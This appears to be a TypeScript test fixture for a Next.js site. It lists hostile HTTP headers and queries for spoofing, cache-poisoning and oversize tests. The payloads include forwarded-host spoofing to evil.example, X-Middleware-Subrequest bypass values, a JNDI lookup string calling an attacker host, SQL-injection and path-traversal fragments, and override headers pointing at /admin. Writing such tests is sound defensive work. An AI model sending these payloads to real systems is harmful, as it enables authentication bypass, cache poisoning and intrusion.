import { ask, get, type HostileShape, INJECTED, shapesOf } from "./shape";

// What is said beside the address of a reader's page. None of it may be in what the next reader gets.

/** Of parts in front, that a server might believe without asking whether there is one. */
const SPOOFED: Record<string, string[]> = {
  "another host, forwarded": ["X-Forwarded-Host: evil.example"],
  "another host, of several": ["X-Forwarded-Host: evil.example, {host}", "X-Forwarded-Server: evil.example"],
  "another host by its name": ["X-Host: evil.example", "X-HTTP-Host-Override: evil.example"],
  "another protocol, forwarded": ["X-Forwarded-Proto: https", "X-Forwarded-Ssl: on", "X-Url-Scheme: https"],
  "a protocol that is none, forwarded": ["X-Forwarded-Proto: javascript:alert(1)//"],
  "another port, forwarded": ["X-Forwarded-Port: 1", "X-Forwarded-Host: {host}"],
  "a prefix, forwarded": ["X-Forwarded-Prefix: //evil.example"],
  "everything, forwarded": ['Forwarded: for=127.0.0.1;host=evil.example;proto="https"'],
  "forwarded, not well-formed": [`Forwarded: for="[::1;host=';,,==;proto=\\"`],
  "the address of the machine itself": ["X-Forwarded-For: 127.0.0.1", "X-Real-IP: 127.0.0.1"],
  "an address that is none": ["X-Forwarded-For: ' OR 1=1 --, <script>, ::ffff:999.1.1.1"],
  "a thousand addresses": [`X-Forwarded-For: ${"10.0.0.1, ".repeat(1_000)}10.0.0.2`],
  "an address of the network in front": ["CF-Connecting-IP: 127.0.0.1", "True-Client-IP: ::1"],
  "another address, rewritten": ["X-Original-URL: /admin", "X-Rewrite-URL: /admin/users"],
  "another method": ["X-HTTP-Method-Override: DELETE", "X-Method-Override: PUT", "X-HTTP-Method: POST"],
  "a name for the request": [`X-Request-Id: a, ${INJECTED}`, "Traceparent: 00-evil-evil-01"],
  "a policy for the page's scripts": ["Content-Security-Policy: script-src 'nonce-evil.example'"],
  "a form that was refused": ["X-Refused-Form: %7B%22message%22%3A%22evil.example%22%7D"],
  "a form that was refused, broken": ["X-Refused-Form: %zz"],
  "a session that is none": [
    "Cookie: next-auth.session-token=eyJhbGciOiJkaXIifQ..x.y.z",
    "Authorization: Bearer x",
  ],
  "an origin of its own": ["Origin: https://evil.example", "Referer: https://evil.example/"],
};

const NEXTS: Record<string, string[]> = {
  "a page in Next's own form": ["RSC: 1"],
  "a page in Next's own form, ahead": ["RSC: 1", "Next-Router-Prefetch: 1"],
  "a part of a page, ahead": ["RSC: 1", "Next-Router-Prefetch: 1", "Next-Router-Segment-Prefetch: /_tree"],
  "a part that there is not": ["RSC: 1", "Next-Router-Segment-Prefetch: /../../__proto__"],
  "a tree that is none": ["RSC: 1", "Next-Router-State-Tree: %zz"],
  "a tree of another page": [
    "RSC: 1",
    "Next-Router-State-Tree: %5B%22%22%2C%7B%22children%22%3A%5B%22admin%22%2C%7B%7D%5D%7D%5D",
  ],
  "a tree of 12,000 branches": ["RSC: 1", `Next-Router-State-Tree: ${"[".repeat(12_000)}`],
  "another address, in Next's words": ["Next-Url: //evil.example/", "RSC: 1"],
  "data of a page": ["X-Nextjs-Data: 1"],
  "no proxy, five times": [`X-Middleware-Subrequest: ${Array(5).fill("proxy").join(":")}`],
  "no middleware, five times": [`X-Middleware-Subrequest: ${Array(5).fill("src/middleware").join(":")}`],
  "a rewrite": ["X-Middleware-Rewrite: http://evil.example/", "X-Middleware-Next: 1"],
  "headers to be overridden": [
    "X-Middleware-Override-Headers: host,cookie",
    "X-Middleware-Request-Host: evil.example",
    "X-Middleware-Set-Cookie: a=evil.example",
  ],
  "ahead of the middleware": ["X-Middleware-Prefetch: 1", "Purpose: prefetch"],
  "another page, in the words of Next's router": [
    "X-Invoke-Path: /admin",
    "X-Invoke-Query: %7B%7D",
    "X-Invoke-Output: /admin",
  ],
  "a fault, in the words of Next's router": [
    "X-Invoke-Status: 500",
    "X-Invoke-Error: %7B%22message%22%3A%22evil.example%22%7D",
  ],
  "another page, in the words of its platform": ["X-Matched-Path: /admin", "X-Now-Route-Matches: 1=admin"],
  "another deployment": ["X-Deployment-Id: evil.example", "X-Vercel-Id: evil.example"],
  "a page to be made anew": [
    "X-Prerender-Revalidate: evil.example",
    "X-Prerender-Revalidate-If-Generated: 1",
  ],
  "drafts to be shown": ["Cookie: __prerender_bypass=x; __next_preview_data=x"],
  "an action": ["Next-Action: 7f0000000000000000000000000000000000000000", "Accept: text/x-component"],
  "a refresh of the developer's": ["Next-HMR-Refresh: 1", "RSC: 1", "X-Nextjs-Html-Request-Id: x"],
  "a cookie of the developer's": ["Cookie: __next_hmr_refresh_hash__=evil.example; NEXT_LOCALE=../../"],
};

const NEXT_QUERIES: Record<string, string> = {
  "Next's own form, by its query": "{page}?_rsc=evil.example",
  "Next's own form, by a query that is none": "{page}?_rsc=%zz&_rsc=%00",
  "data, by a query": "{page}?__nextDataReq=1&__nextLocale=evil.example&__nextDefaultLocale=x",
  "a parameter of the address, by a query": "{page}?nxtPpair=a-vs-b&nxtIpair=x&pair=evil.example",
  "a page without its data, by a query": "{page}?__NEXT_INIT_QUERY=x&amp=1&__next_edge_ssr=1",
};

const POISONS: Record<string, string[]> = {
  "one byte": ["Range: bytes=0-0"],
  "ranges upon ranges": [`Range: bytes=${Array.from({ length: 1_300 }, (_, at) => `${at}-`).join(",")}`],
  "a range that is none": ["Range: bytes=9999999999999999999-1,-,--5", "If-Range: *"],
  "only when it is known": ["If-None-Match: *"],
  "only when it is not known": [
    'If-Match: "evil.example"',
    "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT",
  ],
  "a thousand tags": [`If-None-Match: ${Array.from({ length: 1_000 }, (_, at) => `W/"${at}"`).join(", ")}`],
  "tags without an end": [`If-None-Match: "${",".repeat(14_000)}`],
  "times that are none": ["If-Modified-Since: evil.example", "If-Unmodified-Since: 99999999999"],
  "every encoding": ["Accept-Encoding: zstd, br;q=0, gzip;q=0, identity;q=0, *;q=0"],
  "an encoding that is none": ["Accept-Encoding: evil.example, ../../etc/passwd"],
  "thousands of encodings": [`Accept-Encoding: ${"br;q=0.1,".repeat(1_500)}gzip`],
  "encodings without a name": [`Accept-Encoding: ${";q=,".repeat(3_500)}`],
  "another type": ["Accept: text/x-component"],
  "a type of no name": [`Accept: ${"*/*;q=0.1,".repeat(1_400)}evil.example`],
  "a language": ["Accept-Language: xx-evil, *;q=0"],
  "no cache": ["Cache-Control: no-cache, no-store, max-age=0", "Pragma: no-cache"],
  "nothing but the cache": ["Cache-Control: only-if-cached, max-stale=99999999"],
  "a search engine": ["User-Agent: Mozilla/5.0 (compatible; Googlebot/2.1)", "From: evil.example"],
  "a browser that is none": [`User-Agent: ${INJECTED} \${jndi:ldap://evil.example/a}`],
  "a page ahead": ["Purpose: prefetch", "Sec-Purpose: prefetch;prerender", "X-Moz: prefetch"],
  "a form of a browser's": [
    "Sec-Fetch-Dest: script",
    "Sec-Fetch-Mode: no-cors",
    "Sec-Fetch-Site: cross-site",
  ],
  "fewer bytes": ["Save-Data: on", "Sec-CH-UA-Mobile: ?1", "Sec-CH-Prefers-Color-Scheme: evil"],
  "a connection that takes headers away": ["Connection: close, Host, Cookie, X-Request-Id"],
  "a way through": ["Via: 1.1 evil.example", "Max-Forwards: 0", "Surrogate-Capability: abc=ESI/1.0"],
  "a body of a sort": ["Content-Type: application/json", "Content-Encoding: gzip"],
};

const POISON_QUERIES: Record<string, string> = {
  "a campaign": "{page}?utm_source=evil.example&fbclid=1",
  "a callback": "{page}?callback=evil.example",
  "parameters behind semicolons": "{page}?page=1;kind=evil.example",
  "a query that is none": "{page}?%zz&%00&=&&==",
  "a slash behind": "{page}/",
  "an ending": "{page}/evil.css",
  "another ending": "{page}.css%00.html",
};

const OVERSIZE: Record<string, string[]> = {
  "a header of 20,000 characters": [`X-Long: ${"a".repeat(20_000)}`],
  "2,000 headers": Array.from({ length: 2_000 }, (_, at) => `X-${at}: evil.example`),
  "a header's name of 20,000 characters": [`X-${"a".repeat(20_000)}: a`],
};

const LARGE: Record<string, string[]> = {
  "a cookie of 15,000 characters": [`Cookie: a=${"b".repeat(15_000)}`],
  "1,500 cookies": [`Cookie: ${Array.from({ length: 1_500 }, (_, at) => `c${at}=1`).join("; ")}`],
  "a session in 50 parts": [
    `Cookie: ${Array.from({ length: 50 }, (_, at) => `next-auth.session-token.${at}=${"a".repeat(250)}`).join("; ")}`,
  ],
  "a referrer of 15,000 characters": [`Referer: https://evil.example/${"a".repeat(15_000)}`],
  "1,000 headers of the same name": Array.from({ length: 1_000 }, () => "Accept: */*"),
};

export const headers: HostileShape[] = [
  ...shapesOf("spoofing", SPOOFED, (lines) => [get("{page}", ...lines)]),
  ...shapesOf("next", NEXTS, (lines) => [get("{page}", ...lines)]),
  ...shapesOf("next", NEXT_QUERIES, (target) => [get(target, "RSC: 1")]),
  ...shapesOf("poisoning", POISONS, (lines) => [get("{page}", ...lines)]),
  ...shapesOf("poisoning", POISON_QUERIES, (target) => [get(target)]),
  ...shapesOf("oversize", OVERSIZE, (lines) => [get("{page}", ...lines)], { refused: true }),
  ...shapesOf("oversize", LARGE, (lines) => [get("{page}", ...lines)]),
  ...shapesOf(
    "spoofing",
    { "a desk by another address": ["X-Original-URL: /", "X-Forwarded-Host: evil.example"] },
    (lines) => [ask("GET", "/admin/users", ...lines)],
  ),
];
